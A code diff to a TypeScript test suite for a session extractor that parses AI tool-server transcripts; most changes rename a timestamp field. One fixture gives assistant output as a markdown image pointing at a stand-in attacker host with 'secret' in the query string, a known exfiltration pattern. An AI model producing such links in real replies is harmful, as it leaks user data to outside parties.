@@ -24,14 +24,14 @@ function extractor(options: Partial<SessionExtractorOptions> = {}) {
 }
 
 const c2s = (ms: number, msg: object, server = 'files', session = 's-1'): TranscriptLine => ({
-  ts: at(ms),
+  ms: T0 + ms,
   session,
   server,
   dir: 'c2s',
   msg: msg as Record<string, unknown>,
 });
 const s2c = (ms: number, msg: object, server = 'files', session = 's-1'): TranscriptLine => ({
-  ts: at(ms),
+  ms: T0 + ms,
   session,
   server,
   dir: 's2c',
@@ -317,7 +317,8 @@ describe('SessionExtractor: catalogs', () => {
     const reordered = TOOLS_V1.map((tool) => Object.fromEntries(Object.entries(tool).reverse()));
     const hashes = [TOOLS_V1, reordered].map((tools) => {
       const x = extractor();
-      const line = JSON.stringify(s2c(1, { jsonrpc: '2.0', id: 1, result: { tools } }), null, 2);
+      const { ms: _ms, ...fields } = s2c(1, { jsonrpc: '2.0', id: 1, result: { tools } });
+      const line = JSON.stringify({ ts: at(1), ...fields }, null, 2);
       const events = run(x, [
         c2s(0, { jsonrpc: '2.0', id: 1, method: 'tools/list' }),
         parseTranscriptLine(line),
@@ -501,7 +502,7 @@ describe('SessionExtractor: turns and host lines', () => {
   it('follows host turns, never inferring once the host reported one', () => {
     const x = extractor({ idleTurnGapMs: 10 });
     const events = run(x, [
-      { ts: at(0), session: 's-1', host: 'user_turn', text: 'summarise my notes' },
+      { ms: T0 + 0, session: 's-1', host: 'user_turn', text: 'summarise my notes' },
       c2s(100, {
         jsonrpc: '2.0',
         id: 1,
@@ -517,19 +518,19 @@ describe('SessionExtractor: turns and host lines', () => {
       }),
       s2c(510, { jsonrpc: '2.0', id: 2, result: { content: [] } }),
       {
-        ts: at(600),
+        ms: T0 + 600,
         session: 's-1',
         host: 'assistant_output',
         text: 'Here ![x](https://attacker.example/p.png?q=secret)',
       },
       {
-        ts: at(700),
+        ms: T0 + 700,
         session: 's-1',
         host: 'prompt',
         messages: [{ role: 'user', content: 'hi' }],
         tools: [{ name: 'read_file' }],
       },
-      { ts: at(1000), session: 's-1', host: 'user_turn', text: 'thanks' },
+      { ms: T0 + 1000, session: 's-1', host: 'user_turn', text: 'thanks' },
     ]);
     const kinds = events.map((e) => (e.kind === 'turn' ? `turn:${e.phase}` : e.kind));
     assert.deepEqual(kinds, [
@@ -560,8 +561,8 @@ describe('SessionExtractor: turns and host lines', () => {
   it('keeps sessions apart and uses the line tenant and host when given', () => {
     const x = extractor();
     const events = run(x, [
-      { ts: at(0), session: 'a', host: 'user_turn', text: 'one', tenant: 't-2', host_id: 'h-2' },
-      { ts: at(1), session: 'b', host: 'user_turn', text: 'two' },
+      { ms: T0 + 0, session: 'a', host: 'user_turn', text: 'one', tenant: 't-2', host_id: 'h-2' },
+      { ms: T0 + 1, session: 'b', host: 'user_turn', text: 'two' },
     ]);
     assert.deepEqual(
       events.map((e) => [e.session_id, e.tenant, e.host_id]),
